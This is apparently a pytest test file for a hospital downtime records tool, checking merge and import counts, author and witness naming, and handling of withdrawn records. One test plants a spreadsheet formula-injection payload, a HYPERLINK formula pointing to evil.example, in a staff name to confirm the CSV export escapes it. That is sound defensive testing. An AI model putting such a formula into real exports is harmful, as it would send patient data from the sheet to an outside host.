"""The merge, its import and the Back-entry list count differently, and each says why: the merge
counts record versions, the import the versions it adds (those on hold kept aside), the list
records, one line each (amendments are versions of one record; a record withdrawn before anyone
entered it is not back-entered). The review read 468, 466 and 464 with no word of why, and a
clerk checking that nothing was lost could not reconcile them. Who wrote each version is named,
in the merge's report, manifest and CSVs, by their laptop's staff directory."""

import csv
import json
from pathlib import Path

import pytest
from pypdf import PdfReader

from downtime.cli import main
from downtime.domain.staff import Role
from downtime.services import records, staff
from downtime.services.context import Session
from downtime.sync.export import export
from downtime.sync.import_export import import_export
from downtime.sync.merge import merge


def _admin(session, clock):
    return Session(session.db, session.device, staff.sign_in(session.db, "admin", "0000", clock), session.forms, clock)


@pytest.fixture
def amended_withdrawn_and_held(tmp_path, laptop, clock, admission_values):
    """Laptop 1 admits LEFÈVRE; laptop 2 takes her on a stick; each laptop's "hl" (Hélène Lefèvre
    on laptop 1, Chloé Martin on laptop 2) then moves her bed, otherwise: she is on hold from
    version 2. Laptop 1 also admits ROUX and amends her weight, and admits PETIT, withdrawn as a
    duplicate. Returns the exports of laptops 1 and 2 and the office's clerk."""
    sessions = []
    for number, name in ((1, "Hélène Lefèvre"), (2, "Chloé Martin")):
        nurse, clerk = laptop(tmp_path / f"{number}.sqlite", number)
        staff.add_staff(_admin(nurse, clock), "hl", name, Role.WARD_NURSE, "3333")
        sessions.append((Session(nurse.db, nurse.device, staff.sign_in(nurse.db, "hl", "3333", clock), nurse.forms,
                                 clock), clerk))
    (hl_1, clerk_1), (hl_2, clerk_2) = sessions
    held = records.save_new(hl_1, "admission", admission_values)
    import_export(clerk_2, export(clerk_1, tmp_path / "carried").folder)
    clock.advance(minutes=10)
    records.amend(hl_2, held.record_id, {**admission_values, "bed": "14"}, "moved to bed 14")
    clock.advance(minutes=5)
    records.amend(hl_1, held.record_id, {**admission_values, "bed": "15"}, "moved to bed 15")
    roux = {**admission_values, "birth_name": "Roux", "nir": "", "bed": "3"}
    amended = records.save_new(hl_1, "admission", roux)
    records.amend(hl_1, amended.record_id, {**roux, "weight_kg": 70, "weight_confirmed_kg": 70}, "weighed")
    withdrawn = records.save_new(hl_1, "admission", {**admission_values, "birth_name": "Petit", "nir": "", "bed": "4"})
    records.mark_entered_in_error(hl_1, withdrawn.record_id, "duplicate")
    exports = [export(clerk, tmp_path / f"export-{number}").folder for number, clerk in ((1, clerk_1), (2, clerk_2))]
    return exports, laptop(tmp_path / "office.sqlite", 900)[1]


# 7 versions of 3 records: LEFÈVRE's 1 and her two versions 2 on hold, ROUX's 2, PETIT's 2.
WHY = ["4 later version(s) of a record (amendments, or versions two laptops wrote otherwise)",
       "2 version(s) on hold (two laptops wrote them otherwise), kept aside until the hold is settled",
       "1 record(s) withdrawn (entered in error) before anyone entered them in the EHR, not listed"]
LISTED = ("2 record(s) on the Back-entry list, one line a record at its latest version, from 7 record version(s) of 3 "
          f"record(s): {'; '.join(WHY)}")


def test_the_merge_counts_versions_of_records_and_says_why_the_import_and_the_list_count_otherwise(
        amended_withdrawn_and_held, tmp_path, capsys):
    exports, _ = amended_withdrawn_and_held
    assert main(["merge", *map(str, exports), "--out", str(tmp_path / "merged")]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0] == f"merged 7 record version(s) of 3 record(s) from 2 export(s) into {tmp_path / 'merged'}"
    start = out.index(WHY[0])
    # The merge cannot know what an office entered from an earlier merge (see
    # test_a_record_withdrawn_after_the_office_entered_it_is_said_listed_to_withdraw).
    assert out[start:start + 4] == [
        *WHY[:2], "1 record(s) withdrawn (entered in error): not listed, unless an earlier merge's version of one was "
                  "entered in the EHR, then listed to withdraw there",
        "Imported, this merge adds 5 record version(s) (those on hold kept aside) and 2 record(s) to the Back-entry "
        "list, one line a record, and one more for each withdrawn record an office entered from an earlier merge, to "
        "withdraw there"]
    manifest = json.loads((tmp_path / "merged" / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["record_versions"] == {"versions": 7, "standing": 5, "on_hold": 2, "set_aside": 0,
                                           "withdrawn_alike": 0, "records": 3, "withdrawn": 1, "loaded_unchanged": 0,
                                           "listed": 2}


def test_the_import_counts_the_versions_it_put_on_hold_and_the_list_says_what_it_counts(
        amended_withdrawn_and_held, tmp_path, capsys):
    exports, office = amended_withdrawn_and_held
    assert main(["merge", *map(str, exports), "--out", str(tmp_path / "merged")]) == 0
    office_db = str(tmp_path / "office.sqlite")
    capsys.readouterr()
    assert main(["import", str(tmp_path / "merged"), "--db", office_db, "--user", "records", "--pin", "4444"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[:2] == [f"imported {tmp_path / 'merged'} (exports or a merge of exports): 3 patient(s), 5 record "
                       "version(s), 2 record version(s) put on hold (two laptops wrote them otherwise), kept aside; 0 "
                       "patient(s), 0 record version(s) already here, unchanged", LISTED]
    assert main(["worklist", "--db", office_db, "--user", "records", "--pin", "4444"]) == 0
    assert capsys.readouterr().out.splitlines()[:2] == ["0 of 2 record(s) entered in the EHR — 1 on hold", LISTED]
    printed = tmp_path / "worklist.pdf"
    assert main(["pdf", "worklist", "--db", office_db, "--user", "records", "--pin", "4444", "--out", str(printed)]) == 0
    text = " ".join(" ".join(page.extract_text() for page in PdfReader(printed).pages).split())
    assert LISTED in text, "the paper the clerk ticks reconciles the list with the merge as the tab does"


def test_exports_imported_one_by_one_count_alike(amended_withdrawn_and_held):
    exports, office = amended_withdrawn_and_held
    first = import_export(office, exports[0])
    assert first.added == {"patients": 3, "records": 6} and first.tally is not None
    assert first.tally.listed_in("en") == (
        "2 record(s) on the Back-entry list, one line a record at its latest version, from 6 record version(s) of 3 "
        "record(s): 3 later version(s) of a record (amendments, or versions two laptops wrote otherwise); "
        "1 record(s) withdrawn (entered in error) before anyone entered them in the EHR, not listed")
    second = import_export(office, exports[1])
    # Laptop 2's version 2 differs from laptop 1's, here already: put on hold, counted so.
    assert (second.added, second.unchanged) == ({"patients": 0, "records": 0, "records_on_hold": 1},
                                                {"patients": 1, "records": 1})
    # Laptop 1's version 2 stands here, laptop 2's is aside: the same 7 versions as the merge's.
    assert second.tally is not None and second.tally.listed_in("en") == (
        "2 record(s) on the Back-entry list, one line a record at its latest version, from 7 record version(s) of 3 "
        "record(s): 4 later version(s) of a record (amendments, or versions two laptops wrote otherwise); 1 "
        "version(s) on hold (two laptops wrote them otherwise), kept aside until the hold is settled; 1 record(s) "
        "withdrawn (entered in error) before anyone entered them in the EHR, not listed")
    assert "1 record version(s) put on hold" in second.added_text("en")


def test_a_record_withdrawn_after_the_office_entered_it_is_said_listed_to_withdraw(tmp_path, laptop, clock,
                                                                                   admission_values, capsys):
    """The office entered laptop 1's observations from the first merge; laptop 1 then withdrew them
    (wrong patient). The second merge said "1 record(s) withdrawn (entered in error) before anyone
    entered them in the EHR, not listed", and the clerk trusting it did not look for the line
    telling them to withdraw the wrong patient's observations from the EHR."""
    from downtime.services import back_entry

    nurse, clerk = laptop(tmp_path / "1.sqlite", 1)
    admitted = records.save_new(nurse, "admission", admission_values)
    observed = records.save_new(nurse, "observations", {
        "taken_at": "2026-11-28T11:00+01:00", "respiratory_rate": 16, "spo2": 97, "spo2_scale": "scale_1",
        "on_oxygen": False, "systolic_bp": 130, "diastolic_bp": 80, "pulse": 72, "consciousness": "alert",
        "temperature": 37.0}, patient_id=admitted.patient_id).record_id
    first = export(clerk, tmp_path / "e1a").folder
    office_db = str(tmp_path / "office.sqlite")
    office = laptop(tmp_path / "office.sqlite", 900)[1]
    import_export(office, merge([first], tmp_path / "m1").folder)
    back_entry.mark_entered(office, observed, 1, "OBS-1")
    clock.advance(minutes=20)
    records.mark_entered_in_error(nurse, observed, "wrong patient")
    later = export(clerk, tmp_path / "e1b", since_last=True).folder
    capsys.readouterr()
    assert main(["merge", str(first), str(later), "--out", str(tmp_path / "m2")]) == 0
    said = capsys.readouterr().out
    assert "before anyone entered them in the EHR" not in said
    assert ("1 record(s) withdrawn (entered in error): not listed, unless an earlier merge's version of one was "
            "entered in the EHR, then listed to withdraw there") in said
    assert main(["import", str(tmp_path / "m2"), "--db", office_db, "--user", "records", "--pin", "4444"]) == 0
    # Its own sentence after the reasons, which each take versions down to lines (3 - 1 = 2): among
    # them, it took none, and the sum fell one line short.
    assert ("2 record(s) on the Back-entry list, one line a record at its latest version, from 3 record version(s) "
            "of 2 record(s): 1 later version(s) of a record (amendments, or versions two laptops wrote otherwise). Of "
            "these, 1 record(s) this import brought withdrawn (entered in error) on a laptop after they were entered "
            "in the EHR: listed, to withdraw there") in capsys.readouterr().out.splitlines()
    [audited] = [json.loads(detail) for (detail,) in office.db.execute(
        "SELECT detail FROM audit WHERE action = 'import' ORDER BY seq DESC LIMIT 1")]
    assert audited["to_withdraw"] == 1
    [item] = [item for group in back_entry.worklist(office) for item in group.items if item.record.record_id == observed]
    assert item.to_do.startswith("withdraw in the EHR")


def _csv(folder: Path, form_id: str) -> tuple[list[str], list[dict[str, str]]]:
    with (folder / "csv" / f"{form_id}.csv").open(encoding="utf-8-sig", newline="") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def test_the_merge_names_each_laptops_author_by_its_staff_directory(amended_withdrawn_and_held, tmp_path, capsys):
    """The two laptops' "hl" are two people: the report named both "hl"."""
    exports, _ = amended_withdrawn_and_held
    assert main(["merge", *map(str, exports), "--out", str(tmp_path / "merged")]) == 0
    [held] = [line for line in capsys.readouterr().out.splitlines() if line.startswith("ON HOLD")]
    assert held.endswith(": laptop 2 (no. 002): version 2 by Chloé Martin (hl, laptop 002), 28/11/2026 14:10: Bed: 14 | "
                         "laptop 1 (no. 001): version 2 by Hélène Lefèvre (hl, laptop 001), 28/11/2026 14:15: Bed: 15")
    manifest = json.loads((tmp_path / "merged" / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["on_hold"][0]["why"] == held.replace("(Downtime admission record, ", "(admission, ")
    columns, lines = _csv(tmp_path / "merged", "admission")
    # Last, after on_hold: a back-entry tool's columns keep their positions.
    assert columns[-2:] == ["on_hold", "author_name"]
    assert sorted((line["bed"], line["author"], line["author_name"]) for line in lines if line["birth_name"] == "Lefèvre") == [
        ("12", "hl", "Hélène Lefèvre"), ("14", "hl", "Chloé Martin"), ("15", "hl", "Hélène Lefèvre")]


def test_the_merged_csv_names_a_doses_witness_of_its_own_laptop(doses_from_laptop_1, tmp_path):
    """Laptop 2 holds laptop 1's dose, whose witness "hl" is Karim Benali on laptop 2."""
    *_, dose, _ = doses_from_laptop_1
    merged = tmp_path / "merged"
    assert main(["merge", str(tmp_path / "carried"), "--out", str(merged)]) == 0
    columns, lines = _csv(merged, "medication_administration")
    assert columns[-3:] == ["author_name", "given_by_name", "witness_name"]  # a dose's giver named when not its author
    [line] = [line for line in lines if line["record_id"] == dose]
    assert (line["author"], line["author_name"], line["witness"], line["witness_name"]) == (
        "nurse", "Nurse", "hl", "Hélène Lefèvre")
    # Merged again, with the names read afresh: each column once, still last.
    assert main(["merge", str(merged), str(tmp_path / "carried"), "--out", str(tmp_path / "again")]) == 0
    again, lines = _csv(tmp_path / "again", "medication_administration")
    assert again == columns and [line["witness_name"] for line in lines if line["record_id"] == dose] == ["Hélène Lefèvre"]


def test_a_dose_withdrawn_on_another_laptop_names_the_witness_of_the_laptop_that_recorded_it(doses_from_laptop_1,
                                                                                              tmp_path, clock):
    """Laptop 2 withdraws laptop 1's morphine dose: its version still names laptop 1's witness "hl"
    (Hélène Lefèvre), whom its line named by laptop 2's directory (Karim Benali, who never saw the
    dose), though the worklist and the FHIR named her. The line's author stays laptop 2's nurse."""
    from downtime.services import medication

    *_, dose, nurse_2 = doses_from_laptop_1
    clock.advance(minutes=10)
    medication.withdraw_dose(nurse_2, dose, "charted on the wrong patient", witness=("nurse", "1111"))
    clerk_2 = Session(nurse_2.db, nurse_2.device, staff.sign_in(nurse_2.db, "records", "4444", clock), nurse_2.forms, clock)
    merged = merge([tmp_path / "carried", export(clerk_2, tmp_path / "stick-2").folder], tmp_path / "merged").folder
    _, lines = _csv(merged, "medication_administration")
    assert [(line["version"], line["status"], line["witness_name"], line["author_name"])
            for line in lines if line["record_id"] == dose] == [
        ("1", "final", "Hélène Lefèvre", "Nurse"), ("2", "entered-in-error", "Hélène Lefèvre", "Nurse")]


def test_a_name_a_spreadsheet_would_take_for_a_formula_is_written_as_text(tmp_path, laptop, admission_values):
    """A laptop's staff directory travels in its export (here an account named before such names
    were refused): the author_name cell was a live =HYPERLINK(…) in the records office's
    spreadsheet, where every typed cell has the apostrophe that makes it text."""
    nurse, clerk = laptop(tmp_path / "1.sqlite", 1)
    named = '=HYPERLINK("http://evil.example/?"&A2,"Nurse")'
    nurse.db["staff"].update("nurse", {"name": named})
    records.save_new(nurse, "admission", admission_values)
    merged = merge([export(clerk, tmp_path / "stick").folder], tmp_path / "merged").folder
    _, lines = _csv(merged, "admission")
    assert [(line["author"], line["author_name"]) for line in lines] == [("nurse", f"'{named}")]


def test_an_older_export_without_a_directory_merges_with_empty_names(amended_withdrawn_and_held, tmp_path, capsys):
    exports, office = amended_withdrawn_and_held
    manifest = json.loads((exports[1] / "manifest.json").read_text(encoding="utf-8"))
    del manifest["staff"]
    (exports[1] / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    assert main(["merge", *map(str, exports), "--out", str(tmp_path / "merged")]) == 0
    assert "version 2 by hl (laptop 002), 28/11/2026 14:10: Bed: 14" in capsys.readouterr().out
    _, lines = _csv(tmp_path / "merged", "admission")
    assert sorted(line["author_name"] for line in lines if line["bed"] in ("14", "15")) == ["", "Hélène Lefèvre"]
    assert import_export(office, tmp_path / "merged").added["records"] == 5
